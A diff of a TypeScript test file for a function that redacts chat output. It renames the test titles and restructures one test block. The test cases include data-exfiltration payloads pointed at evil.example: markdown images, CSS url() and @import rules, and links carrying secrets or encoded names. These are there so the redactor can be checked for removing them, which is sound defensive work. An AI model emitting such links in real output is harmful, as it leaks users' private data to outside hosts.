@@ -58,7 +58,7 @@ describe("removal of links that could leak data from a chat", () => {
     ["![x][r]\n\n[r]:\n  <//evil.example/p.png>", "![x][r]\n\n[r]:\n  <#>"],
     ["![a](https://www.known.example/log.png?text=alice-johnson-lives)", "a"],
     ["!![](https://evil.example/a)(//evil.example/p.png)", "!\\[image removed](//evil.example/p.png)"],
-  ])("removes the unsafe image in the text: %s", (text, expected) => {
+  ])("removal of links that could leak data from a chat removes the unsafe image in the text: %s", (text, expected) => {
     expect(redact(text)).toBe(expected);
   });
 
@@ -76,9 +76,12 @@ describe("removal of links that could leak data from a chat", () => {
     ["<div style=\"color:red;background:url('//evil.example/x')\">a</div>", '<div style="">a</div>'],
     ["<td background=//evil.example/x>a</td>", '<td background=">a</td>'],
     ["<style>@import '//evil.example/x.css';</style>", "[image removed]</style>"],
-  ])("removes the unsafe element in the text: %s", (text, expected) => {
-    expect(redact(text)).toBe(expected);
-  });
+  ])(
+    "removal of links that could leak data from a chat removes the unsafe element in the text: %s",
+    (text, expected) => {
+      expect(redact(text)).toBe(expected);
+    },
+  );
 
   it.each([
     [`[x](//evil.example/?q=${SECRET})`, "x"],
@@ -113,7 +116,7 @@ describe("removal of links that could leak data from a chat", () => {
     [`https://wiki.example.com.evil.example/?d=${SECRET}`, "[link removed]"],
     [`https://evilwiki.example.com/?d=${SECRET}`, "[link removed]"],
     [`https://README.md/?d=${SECRET}`, "[link removed]"],
-  ])("removes the unsafe link in the text: %s", (text, expected) => {
+  ])("removal of links that could leak data from a chat removes the unsafe link in the text: %s", (text, expected) => {
     expect(redact(text)).toBe(expected);
   });
 
@@ -130,9 +133,12 @@ describe("removal of links that could leak data from a chat", () => {
     "https://evil.example/cooled-with-running-water-for-twenty-minutes",
     `https://evil.example/${Buffer.from("alice johnson").toString("hex").replace(/../g, "$&")}`,
     "https://evil.example/?q=please-compare-https-www-known-example-with-http-shop-example-cart",
-  ])("removes a link with words that the model has read: %s", (text) => {
-    expect(redact(text)).toBe("[link removed]");
-  });
+  ])(
+    "removal of links that could leak data from a chat removes a link with words that the model has read: %s",
+    (text) => {
+      expect(redact(text)).toBe("[link removed]");
+    },
+  );
 
   it.each([
     "https://en.wikipedia.org/wiki/Paris",
@@ -168,17 +174,15 @@ describe("removal of links that could leak data from a chat", () => {
     '{"a":"https://docs.example.org/a?page=AbC2dEf4GhI6jKl8Mn","b":1}',
     "https://wound-care.example.net/burns?topic=first-aid#cooling",
     "[x](https://docs.example.org/b)",
-  ])("keeps the safe link in the text: %s", (text) => {
+  ])("removal of links that could leak data from a chat keeps the safe link in the text: %s", (text) => {
     expect(redact(text)).toBe(text);
   });
 });
 
-describe("disabled rules of the removal of links", () => {
-  it("leave their kind of links in the text", () => {
-    const kindsOf = (disabledRules: string[]) => new Set(linkFormats(known, disabledRules).map(({ kind }) => kind));
-    expect(kindsOf([])).toEqual(new Set(["image removed", "link removed"]));
-    expect(kindsOf(["link removed"])).toEqual(new Set(["image removed"]));
-  });
+it("disabled rules of the removal of links leave their kind of links in the text", () => {
+  const kindsOf = (disabledRules: string[]) => new Set(linkFormats(known, disabledRules).map(({ kind }) => kind));
+  expect(kindsOf([])).toEqual(new Set(["image removed", "link removed"]));
+  expect(kindsOf(["link removed"])).toEqual(new Set(["image removed"]));
 });
 
 describe("removal of links from a stream", () => {
@@ -219,7 +223,7 @@ describe("removal of links from a stream", () => {
     ". ",
   ];
 
-  it("equals the removal from the whole text, for random texts and cuts", () => {
+  it("removal of links from a stream equals the removal from the whole text, for random texts and cuts", () => {
     const random = seededRandom(7);
     const pick = (count: number) => Math.floor(random() * count);
     for (let round = 0; round < 1_500; round++) {
